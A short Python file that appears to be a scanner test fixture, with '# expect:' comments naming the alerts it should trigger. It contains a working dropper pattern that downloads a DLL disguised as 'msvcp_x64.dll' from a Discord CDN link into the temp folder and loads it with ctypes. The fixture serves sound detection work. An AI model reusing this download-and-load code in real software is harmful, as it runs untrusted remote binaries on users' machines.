# ruff: noqa
# fmt: off
"""A DLL downloaded into %TEMP% and loaded with ctypes (pattern of the 2023 'pystealer' droppers)."""
import ctypes
import os
import tempfile
import urllib.request

path = os.path.join(tempfile.gettempdir(), "msvcp_x64.dll")
urllib.request.urlretrieve("https://cdn.discordapp.com/attachments/9/9/msvcp_x64.dll", path)  # expect: suspicious-url
ctypes.WinDLL(path)  # expect: dll-hijacking
